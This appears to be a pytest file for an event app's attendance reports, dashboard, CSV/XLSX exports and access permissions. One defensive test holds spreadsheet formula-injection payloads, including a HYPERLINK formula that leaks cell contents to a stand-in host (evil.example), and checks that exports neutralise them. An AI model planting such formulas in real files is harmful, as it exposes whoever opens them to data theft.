"""Attendance reports: figures, summary sentence, dashboard, exports, permissions."""

import csv
import io
import re
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from eventapp.database import utcnow
from eventapp.extensions import db
from eventapp.models import (
    Category,
    Event,
    FeedbackRequest,
    FeedbackResponse,
    Meeting,
    Registration,
    ScanLog,
    ScanResult,
    Status,
)
from tests import factories
from tests.conftest import bearer

ACTIVE = (Status.CONFIRMED, Status.WAITLISTED, Status.PENDING)
TOKYO = ZoneInfo("Asia/Tokyo")


def load_demo(runner) -> Event:
    result = runner.invoke(args=["demo"])
    assert result.exit_code == 0, result.output
    return db.session.get(Event, int(result.output.strip().splitlines()[-1]))


def registrations(event) -> list[Registration]:
    return list(db.session.execute(
        db.select(Registration).where(Registration.event_id == event.id)
        .order_by(Registration.id)).scalars())


def check_in(regs, by=None, at=None):
    at = at or utcnow()
    for reg in regs:
        reg.checked_in_at = at
        reg.checked_in_by = by
    db.session.commit()


def truth(event) -> dict:
    """The report's figures counted the slow, obvious way, from every registration."""
    regs = registrations(event)
    active = [r for r in regs if r.status in ACTIVE]
    came = [r for r in regs if r.checked_in_at is not None]

    def split(key):
        keys = {key(r) for r in active + came}
        return {k: {"registered": sum(key(r) == k for r in active),
                    "checked_in": sum(key(r) == k for r in came)} for k in keys}

    by_category = {c.code: {"registered": 0, "checked_in": 0} for c in event.categories}
    by_category.update(split(lambda r: r.category.code))
    return {
        "registered": len(active),
        **{s.value: sum(r.status == s for r in regs)
           for s in (Status.CONFIRMED, Status.WAITLISTED, Status.PENDING, Status.CANCELLED)},
        "checked_in": len(came),
        "by_category": by_category,
        "by_country": split(lambda r: r.country or "ZZ"),
        "organisations_checked_in": len({r.organisation for r in came if r.organisation}),
        "countries_checked_in": len({r.country for r in came if r.country}),
        "feedback": feedback_truth(event),
        "networking": session_truth(event),
    }


def feedback_truth(event) -> dict:
    asked = db.session.execute(db.select(FeedbackRequest).where(
        FeedbackRequest.event_id == event.id, FeedbackRequest.stage == "feedback")).all()
    ratings = db.session.execute(db.select(FeedbackResponse.rating).where(
        FeedbackResponse.event_id == event.id)).scalars().all()
    return {"requested": len(asked), "responses": len(ratings),
            "mean_rating": round(sum(ratings) / len(ratings), 2) if ratings else None}


def session_truth(event) -> dict:
    """The session's figures from every meeting and outcome (test_networking_report.py
    checks them on a session that took place)."""
    from eventapp.models import Meeting, MeetingOutcome

    told = [m for m in db.session.execute(db.select(Meeting).where(
        Meeting.event_id == event.id)).scalars() if m.sheet == "published" or m.absent_id]
    said = [o for o in db.session.execute(db.select(MeetingOutcome)).scalars()
            if o.meeting in told]
    ratings = [o.rating for o in said if o.rating is not None]
    return {"scheduled": len(told), "no_shows": sum(m.absent_id is not None for m in told),
            "replacements": sum(m.replaces_id is not None for m in told),
            "held": sum(m.published and any(o.held for o in said if o.meeting is m)
                        and not any(o.held is False for o in said if o.meeting is m)
                        for m in told),
            "rated": len(ratings), "follow_ups": sum(o.follow_up is True for o in said),
            "mean_rating": round(sum(ratings) / len(ratings), 2) if ratings else None}


def report(client, event, token) -> dict:
    response = client.get(f"/api/v1/events/{event.id}/report", headers=bearer(token))
    assert response.status_code == 200, response.get_data(as_text=True)
    return response.get_json()


def seminar_day(runner):
    """The demo seminar with the turnout of the real one: 9 of its 12 companies, officials
    of 7 of its 8 countries, the organisers and guests, and 7 walk-ins: 48 people."""
    event = load_demo(runner)
    # The seminar is under way (no-shows are counted from its start).
    length = event.ends_at - event.starts_at
    event.starts_at = utcnow() - timedelta(hours=1)
    event.ends_at = event.starts_at + length
    db.session.commit()
    regs = registrations(event)
    companies = sorted({r.organisation for r in regs if r.category.code == "company"})[:9]
    countries = ["KE", "GH", "ET", "NG", "ID", "VN", "PH"]
    came = [r for r in regs
            if (r.category.code == "company" and r.organisation in companies)
            or (r.category.code == "embassy" and r.country in countries)
            or r.category.code in ("organiser", "guest")]
    for n in range(7):
        came.append(factories.registration(event, "guest", name=f"Walk-in {n}",
                                           organisation=f"Walk-in Org {n}", country="JP"))
    check_in(came)
    return event, came


# -- figures --------------------------------------------------------------------------

def test_report_on_the_demo_seminar_equals_the_truth(runner, client, organiser_token):
    event, came = seminar_day(runner)
    assert len(came) == 48
    body = report(client, event, organiser_token)
    summary = body.pop("summary")
    assert body == truth(event)
    assert summary == ("48 participants attended, including representatives of 9 companies "
                       "and officials from 7 countries.")


def test_report_counts_every_status(app, client, organiser_token):
    event = factories.event(capacity=10)
    staff = factories.staff("scanner@test.example", "door")
    confirmed = [factories.registration(event, "company", organisation="Acme", country="JP"),
                 factories.registration(event, "company", organisation="Acme", country="JP"),
                 factories.registration(event, "embassy", organisation="Embassy of Kenya",
                                        country="KE"),
                 factories.registration(event, "guest", organisation="", country=None)]
    factories.registration(event, "company", status=Status.WAITLISTED, country="VN")
    factories.registration(event, "embassy", status=Status.WAITLISTED, country="GH")
    factories.registration(event, "embassy", status=Status.PENDING, country="GH")
    factories.registration(event, "guest", status=Status.CANCELLED, country="FR")
    factories.registration(event, "guest", status=Status.CANCELLED, country="FR")
    factories.registration(event, "guest", status=Status.REJECTED, country="DE")
    check_in(confirmed[1:], by=staff)

    body = report(client, event, organiser_token)
    assert body == truth(event) | {"summary": body["summary"]}
    assert (body["registered"], body["confirmed"], body["waitlisted"], body["pending"],
            body["cancelled"], body["checked_in"]) == (7, 4, 2, 1, 2, 3)
    assert body["by_category"]["company"] == {"registered": 3, "checked_in": 1}
    assert body["by_category"]["organiser"] == {"registered": 0, "checked_in": 0}
    assert body["by_country"]["GH"] == {"registered": 2, "checked_in": 0}
    assert body["by_country"]["ZZ"] == {"registered": 1, "checked_in": 1}
    assert "FR" not in body["by_country"] and "DE" not in body["by_country"]
    assert body["organisations_checked_in"] == 2 and body["countries_checked_in"] == 2
    assert body["summary"] == ("3 participants attended, including representatives of "
                               "1 company and officials from 1 country.")


@pytest.mark.parametrize(("categories", "expected"), [
    ((), "0 participants attended."),
    (("guest",), "1 participant attended."),
    (("company", "company"), "2 participants attended, including representatives of "
                             "1 company."),
    (("embassy", "guest"), "2 participants attended, including officials from 1 country."),
])
def test_summary_sentence_reads_right_for_any_turnout(client, organiser_token, categories,
                                                      expected):
    event = factories.event()
    factories.registration(event, "company", organisation="Not came")
    check_in([factories.registration(event, code, organisation="Same Org", country="KE")
              for code in categories])
    assert report(client, event, organiser_token)["summary"] == expected


def test_summary_counts_offering_and_needing_categories_as_companies_and_officials(
        client, organiser_token):
    event = factories.event()
    for code, side in (("exhibitor", "offer"), ("ministry", "need")):
        event.categories.append(Category(code=code, name=code.title(), networking_side=side,
                                         position=9))
    db.session.commit()
    check_in([factories.registration(event, "exhibitor", organisation="Kaisha A"),
              factories.registration(event, "exhibitor", organisation="Kaisha B"),
              factories.registration(event, "ministry", country="GH"),
              factories.registration(event, "ministry", country="NG"),
              factories.registration(event, "guest", country="FR")])
    assert report(client, event, organiser_token)["summary"] == (
        "5 participants attended, including representatives of 2 companies and officials "
        "from 2 countries.")


def test_dashboard_shows_breakdowns_charts_networking_and_no_shows(runner, organiser_client):
    event, came = seminar_day(runner)
    regs = registrations(event)
    no_show = next(r for r in regs if r.checked_in_at is None and r.status == Status.CONFIRMED)
    a, b, c = [r for r in came if r.networking_opt_in][:3]
    # One meeting published; a new draft keeps it and adds a second one.
    db.session.add_all([
        Meeting(event_id=event.id, a_id=min(a.id, b.id), b_id=max(a.id, b.id), slot=0,
                table_number=1, published=True, sheet="published"),
        Meeting(event_id=event.id, a_id=min(a.id, b.id), b_id=max(a.id, b.id), slot=0,
                table_number=1, sheet="draft"),
        Meeting(event_id=event.id, a_id=min(a.id, c.id), b_id=max(a.id, c.id), slot=1,
                table_number=1, sheet="draft")])
    db.session.commit()
    html = organiser_client.get(f"/manage/events/{event.id}/report").get_data(as_text=True)
    assert ("48 participants attended, including representatives of 9 companies and "
            "officials from 7 countries.") in html
    # Everyone checked in within one quarter hour: a sentence, not one block of a chart.
    assert html.count('<svg class="chart"') == 4 and 'id="chart-arrivals"' not in html
    assert "48 check-ins so far, all between" in html
    assert "Kenya" in html and "Company representative" in html
    assert "Water purification" in html and "Aqua Pure Technologies K.K." in html
    assert no_show.name in html
    assert "The networking schedule holds 2 meetings (1 published)" in html
    opted_in = sum(r.networking_opt_in for r in regs if r.status == Status.CONFIRMED)
    assert f"3 of {opted_in} people who opted in have at least one." in html
    for export in ("attendees.csv", "attendees.xlsx", "report.xlsx", "scans.csv",
                   "meetings.csv"):
        assert f'href="/events/{event.id}/exports/{export}"' in html
    assert f'href="/manage/events/{event.id}/report/print"' in html
    assert 'src="/static/js/reports.js"' in html and "<script>" not in html


def test_dashboard_speaks_japanese_with_localised_country_names(runner, organiser_client):
    event = load_demo(runner)
    html = organiser_client.get(f"/manage/events/{event.id}/report?lang=ja").get_data(
        as_text=True)
    assert 'lang="ja"' in html
    for name in ("ケニア", "ガーナ", "エチオピア", "日本", "企業代表者", "浄水"):
        assert name in html
    english = organiser_client.get(f"/manage/events/{event.id}/report?lang=en").get_data(
        as_text=True)
    assert "Kenya" in english and "ケニア" not in english


def test_summary_is_told_in_japanese_and_the_api_stays_english(runner, client,
                                                               organiser_client,
                                                               organiser_token):
    event, _came = seminar_day(runner)
    html = organiser_client.get(f"/manage/events/{event.id}/report?lang=ja").get_data(
        as_text=True)
    summary = re.search(r'<p class="summary-text">(.*?)</p>', html, re.S).group(1)
    assert "participants attended" not in summary
    assert re.search(r"[\u3040-\u30ff\u4e00-\u9fff]", summary)  # kana or kanji
    assert {"48", "9", "7"} <= set(re.findall(r"\d+", summary))  # the same figures
    assert "。 " not in summary  # no space between Japanese sentences
    api = client.get(f"/api/v1/events/{event.id}/report?lang=ja",
                     headers=bearer(organiser_token) | {"Accept-Language": "ja"})
    assert api.get_json()["summary"].startswith("48 participants attended, including")


def test_arrivals_are_counted_per_quarter_hour_in_the_event_time_zone(organiser_client):
    event = factories.event()  # Asia/Tokyo, UTC+9
    at = datetime(2026, 6, 9, 4, 1, tzinfo=UTC)  # 13:01 in Tokyo
    for minutes in (0, 12, 13, 16, 44):  # 13:01, 13:13, 13:14 | 13:17 | 13:45
        check_in([factories.registration(event)], at=at + timedelta(minutes=minutes))
    html = organiser_client.get(f"/manage/events/{event.id}/report").get_data(as_text=True)
    table = dict(re.findall(r"<td>(Jun 9, 2026, \d\d:\d\d)</td><td class=\"num\">(\d+)</td>",
                            html))
    assert table == {"Jun 9, 2026, 13:00": "3", "Jun 9, 2026, 13:15": "1",
                     "Jun 9, 2026, 13:30": "0", "Jun 9, 2026, 13:45": "1"}


def test_arrivals_spread_over_months_are_shown_by_day(organiser_client):
    event = factories.event()
    for when in (datetime(2020, 1, 1, tzinfo=UTC), datetime(2026, 6, 1, 4, 0, tzinfo=UTC),
                 datetime(2026, 6, 9, 4, 0, tzinfo=UTC), datetime(2026, 6, 9, 5, 0, tzinfo=UTC)):
        check_in([factories.registration(event)], at=when)
    html = organiser_client.get(f"/manage/events/{event.id}/report").get_data(as_text=True)
    rows = re.findall(r"<td>(\w{3} \d{1,2}, \d{4})</td><td class=\"num\">(\d+)</td>", html)
    assert len(rows) == 48  # the latest 48 days, a bar each
    assert rows[-1] == ("Jun 9, 2026", "2")


def test_live_figures_follow_check_ins(client, organiser_client):
    event = factories.event(starts_at=utcnow() - timedelta(hours=1),
                            ends_at=utcnow() + timedelta(hours=3))
    people = [factories.registration(event) for _ in range(4)]
    factories.registration(event, status=Status.WAITLISTED)
    url = f"/manage/events/{event.id}/report/live.json"
    before = organiser_client.get(url).get_json()
    assert (before["registered"], before["checked_in"], before["no_shows"]) == (5, 0, 4)
    assert before["attendance_rate_text"] == "0%" and before["last_check_in"] is None
    check_in(people[:3])
    after = organiser_client.get(url).get_json()
    assert (after["checked_in"], after["no_shows"], after["attendance_rate_text"]) == (3, 1, "75%")
    assert after["last_check_in"].endswith("+09:00")


def test_empty_event_reports_zeroes_without_errors(client, organiser_client, organiser_token):
    event = factories.event(networking=False)
    html = organiser_client.get(f"/manage/events/{event.id}/report").get_data(as_text=True)
    assert "No one has checked in yet." in html and "No registration is confirmed yet." in html
    assert organiser_client.get(f"/manage/events/{event.id}/report/print").status_code == 200
    body = report(client, event, organiser_token)
    assert body["registered"] == 0 and body["by_country"] == {}
    assert body["summary"] == "0 participants attended."


# -- exports --------------------------------------------------------------------------

def read_csv(response) -> list[list[str]]:
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf"), "Excel needs the UTF-8 byte order mark"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def read_xlsx(response):
    return load_workbook(io.BytesIO(response.get_data()))


def test_attendee_exports_carry_everyone_with_japanese_names_intact(runner, client,
                                                                     organiser_token):
    event, _came = seminar_day(runner)
    regs = registrations(event)
    regs[-1].status = Status.CANCELLED
    db.session.commit()
    headers = bearer(organiser_token)

    response = client.get(f"/events/{event.id}/exports/attendees.csv", headers=headers)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    header, *rows = read_csv(response)
    assert header[:3] == ["ID", "Name", "Name reading (kana)"]
    assert "Checked in at (Asia/Tokyo)" in header and "Meetings" in header
    assert sorted(int(row[0]) for row in rows) == [r.id for r in regs]
    by_name = {row[1]: dict(zip(header, row, strict=True)) for row in rows}
    watanabe = by_name["渡辺 健一"]
    assert watanabe["Name reading (kana)"] == "わたなべ けんいち"
    assert watanabe["Organisation"] == "株式会社ミズホ浄水システム"
    assert watanabe["Country code"] == "JP" and watanabe["Country"] == "Japan"
    assert watanabe["Technologies offered"] == "Water purification; Disinfection"
    assert watanabe["Target countries"] == "Vietnam; Philippines; Kenya"
    assert by_name[regs[-1].name]["Status"] == "Cancelled"
    came = next(r for r in regs if r.checked_in_at)
    assert by_name[came.name]["Checked in at (Asia/Tokyo)"] == \
        came.checked_in_at.astimezone(TOKYO).strftime("%Y-%m-%d %H:%M:%S")

    for path in ("attendees.xlsx", "report.xlsx"):
        response = client.get(f"/events/{event.id}/exports/{path}", headers=headers)
        assert response.status_code == 200
        assert response.mimetype.endswith("spreadsheetml.sheet")
        book = read_xlsx(response)
        sheet = book.worksheets[0]
        assert sheet.title == "Attendees"
        values = list(sheet.iter_rows(values_only=True))
        assert list(values[0]) == header
        assert sorted(row[0] for row in values[1:]) == [r.id for r in regs]
        assert "渡辺 健一" in {row[1] for row in values[1:]}
        checked_in_column = header.index("Checked in at (Asia/Tokyo)")
        assert any(isinstance(row[checked_in_column], datetime) for row in values[1:])


def test_report_workbook_has_the_attendee_list_first_then_the_figures(runner, client,
                                                                       organiser_token):
    event, _came = seminar_day(runner)
    expected = truth(event)
    book = read_xlsx(client.get(f"/events/{event.id}/exports/report.xlsx",
                                headers=bearer(organiser_token)))
    assert book.sheetnames[:4] == ["Attendees", "Summary", "By category", "By country"]
    summary = dict(book["Summary"].iter_rows(min_row=2, values_only=True))
    assert summary["Checked in"] == 48
    assert summary["Summary"].startswith("48 participants attended, including representatives "
                                         "of 9 companies and officials from 7 countries.")
    by_category = {code: {"registered": r, "checked_in": c} for code, _name, r, c
                   in book["By category"].iter_rows(min_row=2, values_only=True)}
    assert by_category == expected["by_category"]
    by_country = {code: {"registered": r, "checked_in": c} for code, _name, r, c
                  in book["By country"].iter_rows(min_row=2, values_only=True)}
    assert by_country == expected["by_country"]


PAYLOADS = {
    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "organisation": "+SUM(1)",
    "job_title": "-1+2",
    "email": "@cmd",
}
MORE_PAYLOADS = ("\t=1", "\r=1")
PHONE = "+81 3 1234 5678"


def test_formula_payloads_never_run_in_csv_or_xlsx(client, organiser_token):
    event = factories.event()
    factories.registration(event, phone=PHONE, **PAYLOADS)
    for payload in MORE_PAYLOADS:
        factories.registration(event, name=payload, organisation=payload)
    factories.registration(event, name="渡辺 健一", organisation="-", job_title="CEO")
    headers = bearer(organiser_token)

    header, *rows = read_csv(client.get(f"/events/{event.id}/exports/attendees.csv",
                                        headers=headers))
    first = dict(zip(header, rows[0], strict=True))
    for field, column in (("name", "Name"), ("organisation", "Organisation"),
                          ("job_title", "Job title"), ("email", "E-mail")):
        assert first[column] == "'" + PAYLOADS[field]
    assert first["Phone"] == "'" + PHONE  # every digit kept, shown as text
    assert [row[1] for row in rows[1:3]] == ["'" + p for p in MORE_PAYLOADS]
    assert rows[3][1] == "渡辺 健一" and rows[3][3] == "'-"
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell

    for path in ("attendees.xlsx", "report.xlsx"):
        book = read_xlsx(client.get(f"/events/{event.id}/exports/{path}", headers=headers))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
        attendees = book.worksheets[0]
        columns = [c.value for c in attendees[1]]
        first = {columns[i]: cell for i, cell in enumerate(attendees[2])}
        assert first["Name"].value == PAYLOADS["name"] and first["Name"].data_type == "s"
        assert first["Organisation"].value == "+SUM(1)"
        assert first["Job title"].value == "-1+2" and first["E-mail"].value == "@cmd"
        assert first["Phone"].value == PHONE and first["Phone"].data_type == "s"
        # XML keeps the tab; a bare carriage return comes back as itself or as a line
        # break depending on the XML parser (lxml or not). Either way the cell is text.
        assert attendees["B3"].value == "\t=1" and attendees["B3"].data_type == "s"
        assert attendees["B4"].value in ("\r=1", "\n=1")
        assert attendees["B4"].data_type == "s"


def test_control_characters_do_not_break_the_workbook(client, organiser_token):
    event = factories.event()
    factories.registration(event, name="Bell\x07 Person", organisation="Escape\x1b Org\x01")
    response = client.get(f"/events/{event.id}/exports/attendees.xlsx",
                          headers=bearer(organiser_token))
    assert response.status_code == 200
    row = list(read_xlsx(response).worksheets[0].iter_rows(min_row=2, values_only=True))[0]
    assert row[1] == "Bell Person" and row[3] == "Escape Org"


def test_scan_log_and_meetings_exports(client, organiser_token):
    event = factories.event()
    door = factories.staff("gate@test.example", "door")
    ana, ben = factories.registration(event, name="Ana Silva", organisation="Org A"), \
        factories.registration(event, name="高橋 誠", organisation="株式会社テスト")
    at = datetime(2026, 6, 9, 4, 2, 3, tzinfo=UTC)
    db.session.add_all([
        ScanLog(event_id=event.id, registration_id=ana.id, staff_user_id=door.id,
                code=ana.checkin_code, result=ScanResult.CHECKED_IN, created_at=at,
                device="iPhone"),
        ScanLog(event_id=event.id, staff_user_id=door.id, code="=BAD-CODE",
                result=ScanResult.UNKNOWN_CODE, created_at=at + timedelta(seconds=5)),
        Meeting(event_id=event.id, a_id=ana.id, b_id=ben.id, slot=1, table_number=3,
                score=7.25, published=True,
                reasons={"countries": ["KE"], "technologies": ["water", "diagnostics"]}),
    ])
    db.session.commit()
    headers = bearer(organiser_token)

    header, *rows = read_csv(client.get(f"/events/{event.id}/exports/scans.csv",
                                        headers=headers))
    assert header[0] == "Time (Asia/Tokyo)" and len(rows) == 2
    accepted, unknown = (dict(zip(header, row, strict=True)) for row in rows)
    assert accepted["Time (Asia/Tokyo)"] == "2026-06-09 13:02:03"
    assert accepted["Result"] == "Checked in" and accepted["Name"] == "Ana Silva"
    assert accepted["Staff"] == "Gate" and accepted["Code read"] == ""  # a ticket's secret
    assert unknown["Result"] == "Unknown code" and unknown["Code read"] == "'=BAD-CODE"

    header, *rows = read_csv(client.get(f"/events/{event.id}/exports/meetings.csv",
                                        headers=headers))
    meeting = dict(zip(header, rows[0], strict=True))
    assert meeting["Person A"] == "Ana Silva" and meeting["Person B"] == "高橋 誠"
    assert meeting["Table"] == "3" and meeting["Slot"] == "2" and meeting["Score"] == "7.25"
    assert meeting["Reasons"] == "Kenya · Water purification, Diagnostics and medical devices"
    assert meeting["Published"] == "Yes" and meeting["Locked"] == "No"
    starts = event.networking_starts_at + timedelta(minutes=event.networking_slot_minutes)
    assert meeting["Starts at (Asia/Tokyo)"] == \
        starts.astimezone(TOKYO).strftime("%Y-%m-%d %H:%M:%S")


def test_exports_name_countries_and_categories_in_the_chosen_language(client, organiser_token):
    event = factories.event()
    factories.registration(event, "embassy", name="Grace Wanjiru", country="KE",
                           target_countries=[], technology_needs=["water"])
    header, row = read_csv(client.get(f"/events/{event.id}/exports/attendees.csv?lang=ja",
                                      headers=bearer(organiser_token)))
    values = dict(zip(header, row, strict=True))
    assert "ケニア" in values.values() and "大使館関係者" in values.values()
    assert "浄水" in values.values()


# -- who may see it -------------------------------------------------------------------

EXPORTS = ("attendees.csv", "attendees.xlsx", "report.xlsx", "scans.csv", "meetings.csv")
PAGES = ("report", "report/print", "report/live.json")


@pytest.mark.parametrize("export", EXPORTS)
def test_exports_are_for_organisers_only(app, client, door_client, door_token,
                                         organiser_token, export):
    event = factories.event()
    url = f"/events/{event.id}/exports/{export}"
    browser = client.get(url, headers={"Accept": "text/html,application/xhtml+xml,*/*"})
    assert browser.status_code == 302 and "/login" in browser.headers["Location"]
    script = client.get(url)
    assert script.status_code == 401 and script.get_json()["error"] == "unauthorized"
    assert client.get(url, headers=bearer("ev_wrong")).status_code == 401
    assert client.get(url, headers=bearer(door_token)).status_code == 403
    assert door_client.get(url).status_code == 403
    assert client.get(url, headers=bearer(organiser_token)).status_code == 200


@pytest.mark.parametrize("page", PAGES)
def test_report_pages_are_for_organisers_only(app, client, door_client, organiser_client,
                                              page):
    event = factories.event()
    url = f"/manage/events/{event.id}/{page}"
    anonymous = app.test_client().get(url)
    assert anonymous.status_code == 302 and "/login" in anonymous.headers["Location"]
    assert door_client.get(url).status_code == 403
    assert organiser_client.get(url).status_code == 200


def test_report_api_is_for_organisers_only(client, door_token, organiser_token):
    event = factories.event()
    url = f"/api/v1/events/{event.id}/report"
    assert client.get(url).status_code == 401
    assert client.get(url, headers=bearer(door_token)).get_json()["error"] == "forbidden"
    assert client.get(url, headers=bearer(door_token)).status_code == 403
    assert client.get(url, headers=bearer(organiser_token)).status_code == 200


@pytest.mark.parametrize("url", [
    "/manage/events/{id}/report", "/manage/events/{id}/report/print",
    "/manage/events/{id}/report/live.json", "/api/v1/events/{id}/report",
    *(f"/events/{{id}}/exports/{name}" for name in EXPORTS)])
def test_unknown_events_answer_404(organiser_client, organiser_token, url):
    for event_id in (999, 2**31, 10**30):
        response = organiser_client.get(url.format(id=event_id),
                                        headers=bearer(organiser_token))
        assert response.status_code == 404, (url, event_id)
    api = organiser_client.get(url.format(id=999), headers=bearer(organiser_token))
    if url.startswith("/api/"):
        assert api.get_json()["error"] == "not_found"


def test_openapi_documents_the_report(client):
    doc = client.get("/api/v1/openapi.json").get_json()
    operation = doc["paths"]["/api/v1/events/{event_id}/report"]["get"]
    assert set(operation["responses"]) >= {"200", "401", "403", "404"}
    schema = doc["components"]["schemas"]["Report"]
    assert set(schema["required"]) == {
        "registered", "confirmed", "waitlisted", "pending", "cancelled", "checked_in",
        "by_category", "by_country", "organisations_checked_in", "countries_checked_in",
        "summary", "feedback", "networking"}
